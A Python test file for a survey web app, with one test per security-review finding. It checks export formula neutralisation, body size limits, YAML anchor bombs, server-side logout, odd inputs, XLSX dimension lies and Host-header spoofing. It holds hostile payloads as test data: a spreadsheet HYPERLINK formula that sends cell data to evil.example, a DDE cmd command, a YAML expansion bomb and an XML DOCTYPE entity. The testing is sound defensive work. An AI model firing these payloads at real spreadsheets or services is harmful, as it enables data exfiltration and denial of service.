"""One test per finding of the security review (issue 13): each failed before its fix."""

from __future__ import annotations

import csv
import io
import sqlite3
import zipfile

from openpyxl import Workbook, load_workbook
from sqlmodel import Session, select
from starlette.testclient import TestClient

from survey_app.models import SurveyResponse
from survey_app.services.exports.tables import neutralise
from survey_app.settings import Settings
from tests.conftest import form_token, survey_path
from tests.factories import add_member, csrf_of, full_answers, login, make_campaign, make_user

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
]


def _lead(client: TestClient, session: Session, code: str = "H-1"):  # type: ignore[no-untyped-def]
    campaign, locations = make_campaign(session, code=code)
    lead = make_user(session, "lead1", ["lead"])
    add_member(session=session, campaign_id=campaign.id, user_id=lead.id, role="lead")
    login(client, "lead1")
    return campaign, locations


def test_1_exports_cannot_run_formulas(client: TestClient, session: Session) -> None:
    campaign, locations = _lead(client, session)
    path = survey_path(locations[0])
    for text in EVIL:
        data = {
            "_form": form_token(client.get(path).text),
            "_step": "submit",
            **full_answers(),
            "a.comment": text,
        }
        assert client.post(path, data=data).status_code == 303
    token = csrf_of(client)
    body = client.post(f"/c/{campaign.code}/export/responses.csv", data={"_csrf": token}).content.decode(
        "utf-8-sig"
    )
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "'=cmd|' /C calc'!A0" in cells
    book = load_workbook(
        io.BytesIO(client.post(f"/c/{campaign.code}/export/responses.xlsx", data={"_csrf": token}).content)
    )
    values = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" and not c.value.startswith(("=", "+", "-", "@")) for c in values)
    assert neutralise("=一楼") == "'=一楼" and neutralise(-3) == -3 and neutralise("正常") == "正常"


def test_2_bodies_are_bounded_before_parsing(client: TestClient, session: Session) -> None:
    def chunks(total: int):  # type: ignore[no-untyped-def]
        block = b"x" * 65536
        for _ in range(total // 65536):
            yield block

    headers = {"Content-Type": "multipart/form-data; boundary=zz"}
    login_big = client.post("/login", content=chunks(3 * 1024 * 1024), headers=headers)
    assert login_big.status_code in (413, 415)
    logout = client.post("/logout", content=chunks(3 * 1024 * 1024), headers=headers)
    assert logout.status_code == 303, "anonymous: sent to log in, the body never read"
    campaign, _ = _lead(client, session)
    up = {"Content-Type": "multipart/form-data; boundary=zz", "X-CSRF-Token": csrf_of(client)}
    upload = client.post(f"/c/{campaign.code}/locations/import", content=chunks(12 * 1024 * 1024), headers=up)
    assert upload.status_code == 413 and "文件过大" in upload.text


def test_3_yaml_expansion_and_junk_are_refused(client: TestClient, session: Session) -> None:
    _lead(client, session)
    bomb = "".join(f"l{i}: &l{i} [" + ",".join([f"*l{i - 1}" if i else "x"] * 10) + "]\n" for i in range(9))
    files = {"file": ("bomb.yaml", bomb.encode(), "application/x-yaml")}
    page = client.post("/instruments", files=files, data={"_csrf": csrf_of(client)})
    assert page.status_code == 422 and len(page.content) < 200_000 and "anchors and aliases" in page.text
    junk = (
        "id: junk\nversion: 1\ntitle: 垃圾\nsections:\n- id: s\n  title: 部分\n  items:\n"
        "  - id: q1\n    type: single\n    label: 题\n    options:\n"
        "    - {value: a, label: 甲, payload: " + "x" * 5000 + "}\n    - {value: b, label: 乙}\n"
    )
    page = client.post(
        "/instruments",
        files={"file": ("j.yaml", junk.encode(), "text/yaml")},
        data={"_csrf": csrf_of(client)},
    )
    assert page.status_code == 422 and "unknown field" in page.text and "x" * 300 not in page.text


def test_4_logout_ends_the_session_on_the_server(
    client: TestClient, session: Session, settings: Settings
) -> None:
    campaign, _ = _lead(client, session)
    copied = dict(client.cookies)
    assert client.post("/logout", data={"_csrf": csrf_of(client)}).status_code == 303
    with TestClient(client.app, follow_redirects=False, cookies=copied) as thief:
        stolen = thief.post(f"/c/{campaign.code}/export/responses.csv", data={"_csrf": "x"})
        assert stolen.status_code == 303 and "/login" in stolen.headers["location"]
        assert thief.get(f"/c/{campaign.code}").status_code == 303
    make_user(session, "admin1", ["admin"])
    with (
        TestClient(client.app, follow_redirects=False) as lead_again,
        TestClient(client.app, follow_redirects=False) as admin,
    ):
        login(lead_again, "lead1")
        login(admin, "admin1")
        assert "结束以下全部会话" in admin.get("/users/lead1/sessions").text
        assert admin.post("/users/lead1/sessions/end", data={"_csrf": csrf_of(admin)}).status_code == 303
        assert lead_again.get("/campaigns").status_code == 303, "an admin ended it at once"


def test_6_odd_inputs_get_a_4xx_never_a_500(client: TestClient, session: Session) -> None:
    campaign, locations = _lead(client, session)
    path = survey_path(locations[0])
    data = {
        "_form": form_token(client.get(path).text),
        "_step": "submit",
        **full_answers(),
        "_item_ms": '{"q01": 1e999}',
    }
    assert client.post(path, data=data).status_code == 303, "answers kept; the impossible time dropped"
    stored = session.exec(select(SurveyResponse)).one()
    assert stored.item_ms == {}
    token = csrf_of(client)
    for when in ("0001-01-01T00:00", "9999-12-31T23:59"):
        form = {
            "_csrf": token,
            "starts_at": when,
            "deadline": "2027-01-01T00:00",
            "timezone": "Pacific/Kiritimati",
        }
        assert client.post(f"/c/{campaign.code}/edit", data=form).status_code == 422
    pair = (
        "id: p\nversion: 1\ntitle: t\nsections:\n- id: s\n  title: s\n  items:\n"
        "  - {id: q1, type: likert5, label: a, pair: [q2]}\n  - {id: q2, type: likert5, label: b}\n"
    )
    page = client.post(
        "/instruments", files={"file": ("p.yaml", pair.encode(), "text/yaml")}, data={"_csrf": token}
    )
    assert page.status_code == 422 and "pair must name one item id" in page.text
    xlsx = io.BytesIO()
    Workbook().save(xlsx)
    doctype = _rewrite(
        xlsx.getvalue(), "xl/workbook.xml", lambda x: x.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY e "e">]>', 1)
    )
    imported = client.post(
        f"/c/{campaign.code}/locations/import", files={"file": ("d.xlsx", doctype)}, data={"_csrf": token}
    )
    assert imported.status_code == 422
    long_cell = ("code,name\nB01," + "长" * 140_000 + "\n").encode()
    imported = client.post(
        f"/c/{campaign.code}/locations/import", files={"file": ("l.csv", long_cell)}, data={"_csrf": token}
    )
    assert imported.status_code == 422


def _rewrite(data: bytes, name: str, change) -> bytes:  # type: ignore[no-untyped-def]
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            body = src.read(item.filename)
            dst.writestr(item, change(body) if item.filename == name else body)
    return out.getvalue()


def test_7_xlsx_rows_are_counted_not_the_declared_dimension(client: TestClient, session: Session) -> None:
    campaign, _ = _lead(client, session)
    book = Workbook()
    sheet = book.active
    sheet.append(["code", "name"])
    for n in range(5002):
        sheet.append([f"X{n}", f"地点{n}"])
    buf = io.BytesIO()
    book.save(buf)
    lying = _rewrite(
        buf.getvalue(),
        "xl/worksheets/sheet1.xml",
        lambda x: x.replace(b'<dimension ref="A1:B5003"/>', b'<dimension ref="A1:B2"/>'),
    )
    page = client.post(
        f"/c/{campaign.code}/locations/import",
        files={"file": ("big.xlsx", lying)},
        data={"_csrf": csrf_of(client)},
    )
    assert page.status_code == 422 and "5000" in page.text
    assert "已添加" not in page.text


def test_8_form_tokens_are_bound_and_urls_come_from_the_base_url(
    client: TestClient, session: Session
) -> None:
    campaign, locations = _lead(client, session)
    token = form_token(client.get(survey_path(locations[0])).text)
    other = survey_path(locations[1])
    replayed = client.post(other, data={"_form": token, "_step": "submit", **full_answers()})
    assert replayed.status_code == 422 and session.exec(select(SurveyResponse)).first() is None
    too_many = {"_csrf": csrf_of(client), "buildings": "200", "per_building": "100"}
    assert client.post(f"/c/{campaign.code}/locations/generate", data=too_many).status_code == 422


def test_9_sqlite_is_durable(settings: Settings) -> None:
    from survey_app.db import make_engine

    engine = make_engine(settings.database_url)
    with engine.connect() as conn:
        assert conn.exec_driver_sql("PRAGMA synchronous").scalar() == 2, "FULL: fsync at every commit"
    engine.dispose()
    sqlite3.connect(":memory:").close()


def test_8_certificate_links_ignore_the_host_header(
    client: TestClient, session: Session, settings: Settings
) -> None:
    from survey_app.services.grades import locks
    from tests.factories import seed_graded_demo

    campaign, _locations = seed_graded_demo(session)
    snapshot = locks.lock(session=session, campaign=campaign, actor="t")
    session.commit()
    page = client.get(f"/cert/{snapshot.certificate_token}", headers={"Host": "evil.example"})
    assert page.status_code == 200 and "evil.example" not in page.text
    import segno

    expected = segno.make(f"{settings.base_url}/cert/{snapshot.certificate_token}", error="m").svg_inline(
        scale=4, border=2, omitsize=True
    )
    assert expected in page.text, "the QR code encodes MINGCHA_BASE_URL"
